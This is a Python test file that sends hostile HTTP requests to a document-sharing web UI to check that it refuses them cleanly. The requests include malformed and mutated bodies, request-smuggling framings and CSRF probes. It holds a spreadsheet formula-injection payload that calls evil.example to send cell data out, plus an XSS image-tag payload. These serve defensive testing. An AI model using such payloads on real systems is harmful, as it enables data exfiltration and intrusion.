"""test_attack_ui.py: an attacker's requests to isa ui's part 2 (the upload,
the actions, the auditor's pages, the verification of an export), raw over
http.client and sockets: each is refused as it should be, none crashes isa
ui or leaves a file or descriptor behind, none writes a title to its log.

No browser: one deployment, a few `isa ui`s, plain HTTP (what a page on
another port, a rebinding site or a hostile program could send).
"""

import atexit
import csv
import http.client
import io
import json
import os
import re
import socket
import sys
import time
import unittest
import urllib.parse
from pathlib import Path

import harness

BOUNDARY = "----isaAttackBoundary7MA4YWxkTrZu0gW"


def multipart(parts, boundary=BOUNDARY):
    """A multipart/form-data body of parts [(name, filename, bytes)]."""
    out = b""
    for name, filename, data in parts:
        out += (f"--{boundary}\r\nContent-Disposition: form-data; "
                f'name="{name}"; filename="{filename}"\r\n'
                "Content-Type: application/octet-stream\r\n\r\n").encode()
        out += data + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()

# DESIGN §13: on every response of isa ui's own.
HEADERS = {
    "content-security-policy": "default-src 'self'; frame-ancestors 'none'",
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}
TITLE = "Attack test: Operation Nightjar"   # never in isa ui's log
# A share's target, kept in the audit log as typed: with the CSV's separator
# and quote in it, and one that a spreadsheet would run as a formula.
TARGET = 'user:a,"b"'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


class Reply:
    def __init__(self, status, headers, body):
        self.status = status
        self.headers = {k.lower(): v for k, v in headers}
        self.body = body

    def json(self):
        return json.loads(self.body)


def request(ui, method, path, headers=None, body=None, chunked=False):
    """One raw request to ui (its own Host); the Reply."""
    conn = http.client.HTTPConnection("127.0.0.1", ui.port, timeout=harness.READY_SECONDS)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", ui.host)
        for k, v in (headers or {}).items():
            conn.putheader(k, v)
        if chunked:
            conn.putheader("Transfer-Encoding", "chunked")
            conn.endheaders()
            if body:
                conn.send(b"%x\r\n%s\r\n" % (len(body), body))
            conn.send(b"0\r\n\r\n")
        else:
            if body is not None:
                conn.putheader("Content-Length", str(len(body)))
            conn.endheaders(body)
        r = conn.getresponse()
        return Reply(r.status, r.getheaders(), r.read())
    finally:
        conn.close()


def raw(ui, data, read=True):
    """data sent on a plain socket, which is then closed (half-way through
    a body, if data says less than its Content-Length); what came back."""
    s = socket.create_connection(("127.0.0.1", ui.port), timeout=harness.READY_SECONDS)
    try:
        s.sendall(data)
        if not read:
            return b""
        s.shutdown(socket.SHUT_WR)
        out = b""
        while True:
            try:
                b = s.recv(65536)
            except ConnectionResetError:
                break
            if not b:
                break
            out += b
        return out
    finally:
        s.close()


class AttackTest(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.out = harness.out_dir(Path(__file__).stem)
        cls.deployment = harness.Deployment(cls.out)
        atexit.register(cls.deployment.stop)
        cls.deployment.start()
        d = cls.deployment
        cls.doc = d.put("council-lead", b"attack test body\n", TITLE, cls="OFFICIAL",
                        to="agency:hcc")
        # Reasons a member of the board may write, kept in the audit log.
        d.isa("council-lead", "share", cls.doc, "--to", FORMULA, "--reason", "x", check=False)
        d.isa("council-lead", "share", cls.doc, "--to", TARGET, "--reason", "x", check=False)
        cls.auditor = d.ui("auditor")
        cls.aud = harness.http_login(cls.auditor)
        cls.key = (d.dir / "data" / "audit.pub.pem").read_bytes()
        cls.export = d.dir / "export.jsonl"
        d.isa("auditor", "audit", "export", "-o", str(cls.export))
        cls.export = cls.export.read_bytes()
        cls.aud_csrf = request(cls.auditor, "GET", "/api/session",
                               cls.aud.headers()).json()["csrf"]
        cls.member = d.ui("council-lead")
        cls.mem = harness.http_login(cls.member)
        cls.mem_csrf = request(cls.member, "GET", "/api/session",
                               cls.mem.headers()).json()["csrf"]

    @classmethod
    def tearDownClass(cls):
        cls.deployment.stop()

    def alive(self, ui, s, what):
        """ui still answers (it did not crash on what came before)."""
        self.assertIsNone(ui.proc.poll(), f"isa ui exited after {what}")
        r = request(ui, "GET", "/api/whoami", s.headers())
        self.assertEqual(r.status, 200, f"after {what}: {r.body!r}")

    def assertHeaders(self, r, what):
        for name, want in HEADERS.items():
            self.assertEqual(r.headers.get(name), want, f"{what}: {name}")

    def post_headers(self, **more):
        return self.mem.headers(Origin=self.member.origin, X_CSRF_Token=self.mem_csrf,
                                **more)

    # -- the auditor's CSV download ------------------------------------------

    def csv_rows(self):
        r = request(self.auditor, "GET", "/api/audit/csv?action=share&k=" + self.aud.key,
                    {"Cookie": self.aud.cookie})
        self.assertEqual(r.status, 200, r.body[:200])
        return list(csv.reader(io.StringIO(r.body.decode("utf-8"), newline="")))

    def test_csv_cell_with_comma_and_quote(self):
        # A cell that must be quoted (the target of a refused share, as the
        # member typed it, with a comma and quotes) once crashed the download
        # (and `isa audit --csv`): the escaped cell was freed from its end.
        rows = self.csv_rows()
        self.alive(self.auditor, self.aud, "the CSV download")
        targets = [row[rows[0].index("target")] for row in rows[1:]]
        self.assertIn(TARGET, targets)
        r = self.deployment.isa("auditor", "audit", "--action", "share", "--csv", check=False)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(list(csv.reader(io.StringIO(r.stdout, newline=""))), rows)

    def test_csv_no_formula_cell(self):
        # A spreadsheet runs a cell that starts with = + - @ as a formula
        # (a link that sends the sheet's cells away, or worse): such a cell
        # is written with a ' before it (OWASP's advice), which the
        # spreadsheet shows and does not run.
        rows = self.csv_rows()
        cells = [c for row in rows for c in row]
        self.assertIn("'" + FORMULA, cells)
        for c in cells:
            self.assertNotIn(c[:1], ("=", "+", "-", "@"), c)

    # -- hostile bodies --------------------------------------------------------

    def fds(self, ui):
        return len(os.listdir(f"/proc/{ui.proc.pid}/fd"))

    def settle(self, ui, base, what):
        """ui's open descriptors come back to base once the connections
        have ended (their ends run on MHD's threads: waited for, bounded)."""
        deadline = time.monotonic() + harness.READY_SECONDS
        while self.fds(ui) > base and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertLessEqual(self.fds(ui), base, f"descriptors left after {what}")

    def test_json_bodies(self):
        path = f"/api/doc/{self.doc}/share"
        h = self.post_headers(Content_Type="application/json")
        for body, chunked in ((b"[]", False), (b"null", False), (b"", False),
                              (b'{"to":1,"reason":"x"}', False), (b"{" * 60000, False),
                              (b"[" * 60000, True), (b'{"to":"user:x"}', True),
                              (b'{"to":"user:x","reason":"a\\u0000b"}', False),
                              (b"\xff\xfe{}", False)):
            r = request(self.member, "POST", path, h, body, chunked)
            self.assertEqual(r.status, 400, body[:40])
            self.assertEqual(r.json()["error"]["kind"], "bad", body[:40])
        self.alive(self.member, self.mem, "malformed JSON bodies")

    def test_json_body_too_large(self):
        # More than 64 KiB: refused with a sentence at the headers (not a
        # connection cut with no answer), and held nowhere.
        path = f"/api/doc/{self.doc}/recall"
        big = b'{"reason":"' + b"x" * (70 * 1024) + b'"}'
        r = request(self.member, "POST", path,
                    self.post_headers(Content_Type="application/json"), big)
        self.assertEqual(r.status, 413)
        self.assertEqual(r.json()["error"]["kind"], "bad")
        self.assertHeaders(r, "413")
        # Chunked (no length to see first): cut off once it is too much.
        try:
            r = request(self.member, "POST", path,
                        self.post_headers(Content_Type="application/json"), big, True)
            self.assertNotEqual(r.status, 200)
        except (ConnectionError, http.client.HTTPException):
            pass
        self.alive(self.member, self.mem, "a body too large")

    # -- the verification of an export -----------------------------------------

    def verify(self, body, ctype=None, chunked=False):
        h = self.aud.headers(Origin=self.auditor.origin, X_CSRF_Token=self.aud_csrf,
                             Content_Type=ctype or
                             f"multipart/form-data; boundary={BOUNDARY}")
        return request(self.auditor, "POST", "/api/audit/verify", h, body, chunked)

    def test_verify_form_mutations(self):
        # Forms cut, doubled, nested, with long headers and odd boundaries,
        # at random (a fixed seed): each answered (200 with a verdict or
        # 400 "bad"), never verified unless it is the export as it was,
        # and isa ui holds no file or descriptor afterwards.
        import random
        rnd = random.Random(18)

        def mangle(export):
            # A line of the export (after its header) with a value changed:
            # bytes that are not UTF-8, a quote, a long run, a number.
            lines = export.split(b"\n")
            i = rnd.randrange(1, max(2, len(lines) - 1))
            at = rnd.randrange(max(1, len(lines[i])))
            lines[i] = lines[i][:at] + rnd.choice(
                [b"\xff\xc3", b'"', b"\\u0000", b"9" * 400, b"\xe2\x80",
                 b'","seq":1,"x":"', b"}", b"\n"]) + lines[i][at + rnd.randrange(3):]
            return b"\n".join(lines)

        good = multipart([("export", "e.jsonl", self.export), ("key", "a.pem", self.key)])
        r = self.verify(good)
        self.assertTrue(r.json()["verified"], r.body)
        self.assertHeaders(r, "a verdict")
        base = self.fds(self.auditor)
        shapes = [
            lambda b: b[:rnd.randrange(len(b))],
            lambda b: b.replace(b"\r\n", b"\n", rnd.randrange(1, 6)),
            lambda b: b.replace(BOUNDARY.encode(), BOUNDARY[:-1].encode(), 1),
            lambda b: b.replace(b'name="key"', b'name="export"'),
            lambda b: b.replace(b'name="export"', b'name="key"'),
            lambda b: b.replace(b'filename="e.jsonl"',
                                b'filename="' + b"\x01\"%" * 30000 + b'"'),
            lambda b: b.replace(b"Content-Type: application/octet-stream",
                                b"X-Long: " + b"y" * 40000, 1),
            lambda b: b.replace(b"Content-Type: application/octet-stream",
                                b"Content-Type: multipart/mixed; boundary=zz", 1),
            lambda b: b[:200] + bytes(rnd.randrange(256) for _ in range(300)) + b[500:],
            lambda b: (b"--" + BOUNDARY.encode() + b"\r\n") * 50 + b,
            lambda b: b + b,
            lambda b: b.replace(self.export[40:80], self.export[80:120], 1),
            lambda b: b.replace(self.export, mangle(self.export)),
            lambda b: b.replace(self.export, mangle(self.export)),
        ]
        for i in range(int(os.environ.get("ISA_ATTACK_N", "60"))):
            body = rnd.choice(shapes)(good)
            ctype = rnd.choice([None, None, None, "multipart/form-data",
                                "multipart/form-data; boundary=",
                                "multipart/form-data; boundary=" + "b" * 5000,
                                "multipart/mixed; boundary=" + BOUNDARY,
                                "application/x-www-form-urlencoded"])
            r = self.verify(body, ctype, chunked=rnd.random() < 0.3)
            self.assertIn(r.status, (200, 400), (i, r.body[:200]))
            j = r.json()
            if r.status == 200 and j["verified"]:
                self.assertIn(self.export, body, (i, "verified a changed export"))
            elif r.status == 400:
                self.assertEqual(j["error"]["kind"], "bad", (i, j))
        self.alive(self.auditor, self.aud, "mutated forms")
        self.settle(self.auditor, base, "mutated forms")

    def test_verify_sentence_of_bytes_not_utf8(self):
        # An export whose record names its seq in bytes that are not UTF-8:
        # the verdict is the CLI's sentence (the bytes escaped as it escapes
        # them), not a 500 with no verdict.
        lines = self.export.split(b"\n")
        self.assertTrue(lines[1].startswith(b'{"seq":0,'), lines[1][:40])
        lines[1] = b'{"seq":"0\xff\xc3",' + lines[1][len(b'{"seq":0,'):]
        bad = b"\n".join(lines)
        r = self.verify(multipart([("export", "e.jsonl", bad), ("key", "a.pem", self.key)]))
        self.assertEqual(r.status, 200, r.body[:300])
        path = self.deployment.dir / "bad-export.jsonl"
        path.write_bytes(bad)
        cli = self.deployment._run([self.deployment.isa_bin, "audit", "verify", str(path),
                                    "--key", str(self.deployment.dir / "data" /
                                                 "audit.pub.pem")], check=False)
        self.assertEqual(cli.returncode, 6, cli.stderr)
        self.assertFalse(r.json()["verified"])
        self.assertEqual(r.json()["message"], cli.stderr.strip()[len("isa: "):])

    def test_verify_connection_goes_mid_form(self):
        base = self.fds(self.auditor)
        body = multipart([("key", "a.pem", self.key), ("export", "e.jsonl", self.export)])
        head = (f"POST /api/audit/verify HTTP/1.1\r\nHost: {self.auditor.host}\r\n"
                f"Cookie: {self.aud.cookie}\r\nX-ISA-Key: {self.aud.key}\r\n"
                f"Origin: {self.auditor.origin}\r\nX-CSRF-Token: {self.aud_csrf}\r\n"
                f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                f"Content-Length: {len(body) + 1000}\r\n\r\n").encode()
        for cut in (0, 10, len(body) // 2, len(body)):
            raw(self.auditor, head + body[:cut], read=False)
        self.alive(self.auditor, self.aud, "forms cut off")
        self.settle(self.auditor, base, "forms cut off")

    # -- the upload ------------------------------------------------------------

    def upload(self, body, meta, chunked=False, **more):
        h = self.post_headers(Content_Type="application/octet-stream")
        if meta is not None:
            h["X-ISA-Meta"] = meta
        h.update({k.replace("_", "-"): v for k, v in more.items()})
        return request(self.member, "POST", "/api/upload", h, body, chunked)

    def doc_ids(self):
        r = request(self.member, "GET", "/api/docs", self.mem.headers())
        self.assertEqual(r.status, 200, r.body)
        return sorted(json.dumps(r.json(), sort_keys=True))

    def test_upload_meta_mutations(self):
        # X-ISA-Meta mangled at random (a fixed seed): each refused 400
        # "bad" with nothing stored; isa ui unharmed, no descriptor left, and
        # the title in none of its log lines.
        import random
        rnd = random.Random(18)
        ok = {"title": TITLE, "class": "OFFICIAL", "to": ["agency:hcc"],
              "filename": "nightjar.txt"}
        q = lambda m: urllib.parse.quote(json.dumps(m), safe="")
        before = self.doc_ids()
        base = self.fds(self.member)
        metas = [
            "", "%", "%Z", "%00", "%7B%00%7D", "null", q([ok]), q("x"),
            q(dict(ok, to="agency:hcc")), q(dict(ok, to=[])), q(dict(ok, to=[1])),
            q(dict(ok, to=["agency:hcc"] * 1000)), q(dict(ok, caveats=[""])),
            q(dict(ok, title=5)), q(dict(ok, title="")), q(dict(ok, extra="x" * 100)),
            q(dict(ok, review_by="2026-02-30")), q(dict(ok, descriptors={"a": 1})),
            q(ok)[:-3], q(ok) + "%7D",
            q(dict(ok, title="\u0000")).replace("%5Cu0000", "%00"),
            "%7B" * 9000, "%5B" * 9000,
        ]
        for m in metas:
            r = self.upload(b"attack body\n", m)
            self.assertEqual(r.status, 400, (m[:60], r.body[:200]))
            self.assertEqual(r.json()["error"]["kind"], "bad", m[:60])
        # Past UI_META_MAX (64 KiB): isa ui's own JSON refusal, not
        # libmicrohttpd's HTML 431 for headers beyond its memory.
        r = self.upload(b"attack body\n", "x" * (64 * 1024 + 1))
        self.assertEqual(r.status, 400, r.body[:200])
        self.assertEqual(r.json()["error"]["kind"], "bad")
        self.assertIn("longer than 64 KiB", r.json()["error"]["message"])
        for i in range(int(os.environ.get("ISA_ATTACK_N", "40"))):
            m = list(q(ok))
            for _ in range(rnd.randrange(1, 4)):
                m[rnd.randrange(len(m))] = rnd.choice("%{}[]\",:0aZ\\")
            r = self.upload(b"attack body\n", "".join(m))
            self.assertIn(r.status, (200, 400, 403, 404), (i, r.body[:200]))
            if r.status == 200:   # a harmless change: stored, and so kept
                before = self.doc_ids()
        # The size: none, chunked, or one isad refuses before any byte.
        r = self.upload(b"attack body\n", q(ok), chunked=True)
        self.assertEqual(r.status, 400, r.body)
        r = self.upload(None, q(ok))
        self.assertEqual(r.status, 400, r.body)
        self.assertEqual(self.doc_ids(), before)
        self.alive(self.member, self.mem, "mangled descriptions")
        self.settle(self.member, base, "mangled descriptions")

    def test_upload_long_description(self):
        # A description as long as the contract allows (X-ISA-Meta up to 64
        # KiB: a long distribution list and handling text in a non-Latin
        # script, each character 9 bytes encoded) reaches isa ui, which
        # answers it (here: stored).
        meta = {"title": "Long description", "class": "OFFICIAL", "to": ["agency:hcc"],
                "handling": "\u0928" * 1300}
        h = urllib.parse.quote(json.dumps(meta, ensure_ascii=False), safe="")
        h = h[:-3] + "%20" * ((60 * 1024 - len(h)) // 3) + h[-3:]
        self.assertGreater(len(h), 59 * 1024)
        r = self.upload(b"long description\n", h)
        self.assertEqual(r.status, 200, r.body[:300])
        self.assertHeaders(r, "an upload")

    def test_upload_connection_goes_mid_body(self):
        meta = urllib.parse.quote(json.dumps({"title": TITLE, "class": "OFFICIAL",
                                              "to": ["agency:hcc"]}), safe="")
        before = self.doc_ids()
        base = self.fds(self.member)
        for size, sent in ((100, 0), (100, 50), (1 << 20, 300000), (1 << 62, 10)):
            head = (f"POST /api/upload HTTP/1.1\r\nHost: {self.member.host}\r\n"
                    f"Cookie: {self.mem.cookie}\r\nX-ISA-Key: {self.mem.key}\r\n"
                    f"Origin: {self.member.origin}\r\nX-CSRF-Token: {self.mem_csrf}\r\n"
                    "Content-Type: application/octet-stream\r\n"
                    f"X-ISA-Meta: {meta}\r\nContent-Length: {size}\r\n\r\n").encode()
            raw(self.member, head + b"n" * sent, read=False)
        self.alive(self.member, self.mem, "uploads cut off")
        self.settle(self.member, base, "uploads cut off")
        self.assertEqual(self.doc_ids(), before)

    # -- the checks on every new route -----------------------------------------

    GETS = ["/api/requests", "/api/requests?all=1", "/api/audit", "/api/audit/csv",
            "/api/audit/jsonl", "/api/audit/checkpoint", "/api/audit/export"]
    POSTS = ["/api/upload", "/api/audit/verify", "/api/doc/{doc}/share",
             "/api/doc/{doc}/recall", "/api/request/AAAAAAAAAAAAAAAAAAAAAAAAAA/approve",
             "/api/request/AAAAAAAAAAAAAAAAAAAAAAAAAA/refuse"]
    DOWNLOADS = ["/api/audit/csv", "/api/audit/jsonl", "/api/audit/checkpoint",
                 "/api/audit/export"]

    def test_key_only_where_meant(self):
        ui, s = self.auditor, self.aud
        k = "k=" + s.key
        for path in self.GETS:
            sep = "&" if "?" in path else "?"
            # No key at all; the key in ?k= where a link has no business.
            r = request(ui, "GET", path, {"Cookie": s.cookie})
            self.assertEqual((r.status, r.json()["error"]["kind"]), (403, "session"), path)
            r = request(ui, "GET", path + sep + k, {"Cookie": s.cookie})
            if path in self.DOWNLOADS:
                self.assertEqual(r.status, 200, path)
                self.assertHeaders(r, path)
                self.assertTrue(r.headers["content-disposition"].startswith("attachment;"))
                # ... but not from another site's page, key or no key.
                for site in ("cross-site", "same-site"):
                    r = request(ui, "GET", path + sep + k,
                                {"Cookie": s.cookie, "Sec-Fetch-Site": site})
                    self.assertEqual(r.status, 403, (path, site))
            else:
                self.assertEqual(r.status, 403, path + " with ?k=")
        for path in self.POSTS:
            path = path.format(doc=self.doc)
            r = request(ui, "POST", path + "?" + k,
                        {"Cookie": s.cookie, "Origin": ui.origin,
                         "X-CSRF-Token": self.aud_csrf, "Content-Type": "application/json"},
                        b"{}")
            self.assertEqual((r.status, r.json()["error"]["kind"]), (403, "session"), path)
            r = request(ui, "POST", path, s.headers(Origin=ui.origin,
                        Content_Type="application/json"), b"{}")
            self.assertEqual((r.status, r.json()["error"]["kind"]), (403, "csrf"), path)
            r = request(ui, "POST", path, s.headers(
                Origin=f"http://127.0.0.1:{ui.port + 1}", X_CSRF_Token=self.aud_csrf,
                Content_Type="application/json"), b"{}")
            self.assertEqual((r.status, r.json()["error"]["kind"]), (403, "csrf"), path)
            for method in ("GET", "PUT", "DELETE", "OPTIONS", "PATCH"):
                r = request(ui, method, path, s.headers())
                self.assertEqual(r.status, 405, (method, path))
        for path in self.GETS:
            for method in ("POST", "PUT", "DELETE"):
                r = request(ui, method, path, s.headers(
                    Origin=ui.origin, X_CSRF_Token=self.aud_csrf), b"{}")
                self.assertEqual(r.status, 405, (method, path))
        # A GET with a body: the body is ignored, the answer the same.
        r = request(ui, "GET", "/api/requests", s.headers(), b"x" * 100000)
        self.assertEqual(r.status, 200, r.body[:200])
        self.alive(ui, s, "requests with keys where they are not meant")

    def test_raw_framing(self):
        # Framing a hostile program may send: two lengths, a length and
        # chunks, a length that is no number, an old HTTP, requests one
        # after another on one connection (the second after a refusal):
        # each answered or closed, isa ui unharmed, no state carried over.
        ui, s = self.member, self.mem
        base = (f"Host: {ui.host}\r\nCookie: {s.cookie}\r\nX-ISA-Key: {s.key}\r\n"
                f"Origin: {ui.origin}\r\nX-CSRF-Token: {self.mem_csrf}\r\n"
                "Content-Type: application/json\r\n")
        share = f"POST /api/doc/{self.doc}/share HTTP/1.1\r\n" + base
        upload = "POST /api/upload HTTP/1.1\r\n" + base.replace(
            "application/json", "application/octet-stream")
        whoami = (f"GET /api/whoami HTTP/1.1\r\nHost: {ui.host}\r\nCookie: {s.cookie}\r\n"
                  f"X-ISA-Key: {s.key}\r\n\r\n")
        body = '{"to":"user:police-lead","reason":"framing"}'
        then = [
            # (request, whether whoami after it on the connection is served)
            (share + f"Content-Length: {len(body)}\r\nContent-Length: 5\r\n\r\n" + body,
             False),
            (share + f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n"
             + f"{len(body):x}\r\n{body}\r\n0\r\n\r\n", False),
            (share + "Content-Length: -1\r\n\r\n" + body, False),
            (share + "Content-Length: 18446744073709551616\r\n\r\n" + body, False),
            (share.replace("HTTP/1.1", "HTTP/1.0") + f"Content-Length: {len(body)}\r\n\r\n"
             + body, False),
            (share.replace("HTTP/1.1", "HTTP/0.9") + "\r\n", False),
            # A stream refused at its beginning: its body read and dropped,
            # then the next request is its own.
            (upload + "Content-Length: 3\r\nX-ISA-Meta: %7B%7D\r\n\r\nabc" + whoami, True),
            (upload + "Transfer-Encoding: chunked\r\nX-ISA-Meta: x\r\n\r\n"
             "3\r\nabc\r\n0\r\n\r\n" + whoami, False),
            (share + "Content-Length: 2\r\n\r\n[]" + whoami, True),
            (share.replace("X-CSRF-Token", "X-Nothing") + f"Content-Length: {len(body)}\r\n\r\n"
             + body + whoami, False),
        ]
        for req, served in then:
            got = raw(ui, req.encode())
            self.assertNotIn(b" 500 ", got, req[:200])
            self.assertRegex(got, rb"^(HTTP/1\.[01] [0-9]{3} |$)", req[:200])
            if served:
                self.assertRegex(got, rb"^HTTP/1\.1 400 ", req[:200])
                self.assertIn(b'"id":"council-lead"', got, got[-300:])
            self.alive(ui, s, req[:200])

    # -- markup in what members write, in the pages --------------------------

    def test_markup_shown_as_text(self):
        # A title, handling text, file name and reasons with markup in them,
        # written by members, on every page that shows them: text, never
        # elements (the pages build the DOM from text alone).
        import pages
        xss = '<img id="isa-xss" src="x"><b id="isa-xss-b">X</b>'
        d = self.deployment
        path = d.dir / "xss.txt"
        path.write_bytes(b"markup\n")
        r = d.isa("council-lead", "put", str(path), "--title", "T " + xss, "--class",
                  "OFFICIAL", "--to", "group:ppb", "--handling", "H " + xss)
        doc = r.stdout.strip().splitlines()[-1]
        d.isa("police-lead", "share", doc, "--to", "user:uni-contact", "--reason",
              "R " + xss, check=False)
        browser = harness.Browser(self.out)
        try:
            ui = d.ui("council-lead")
            pages.drawn(browser, ui.url)
            for page in ("/inbox", "/documents", f"/doc/{doc}", "/requests"):
                pages.drawn(browser, ui.base(page))
                dr = browser.driver
                self.assertEqual(dr.find_elements("css selector", "#isa-xss, #isa-xss-b"),
                                 [], page)
                if page in ("/documents", f"/doc/{doc}"):
                    self.assertIn("T " + xss, pages.main_text(dr), page)
            self.assertIn("R " + xss, pages.main_text(browser.driver), "/requests")
            # The audit table: a share's target as the member typed it.
            d.isa("council-lead", "share", doc, "--to", "user:<i>x</i>", "--reason", "x",
                  check=False)
            ui = d.ui("auditor")
            pages.drawn(browser, ui.url)
            pages.drawn(browser, ui.base("/audit?action=share"))
            dr = browser.driver
            self.assertIn("user:<i>x</i>", pages.main_text(dr))
            self.assertEqual(dr.find_elements("css selector", "#main-content i"), [])
        finally:
            browser.quit()

    def test_zz_no_title_in_the_logs(self):
        # Last: after every refusal and cut above, no title in a log.
        for ui in (self.member, self.auditor):
            log = (self.out / f"ui-{ui.user}-{self.deployment.uis.index(ui)}.log")
            self.assertNotIn(TITLE, log.read_text(errors="replace"))
            self.assertNotIn("Nightjar", log.read_text(errors="replace"))


if __name__ == "__main__":
    harness.main()
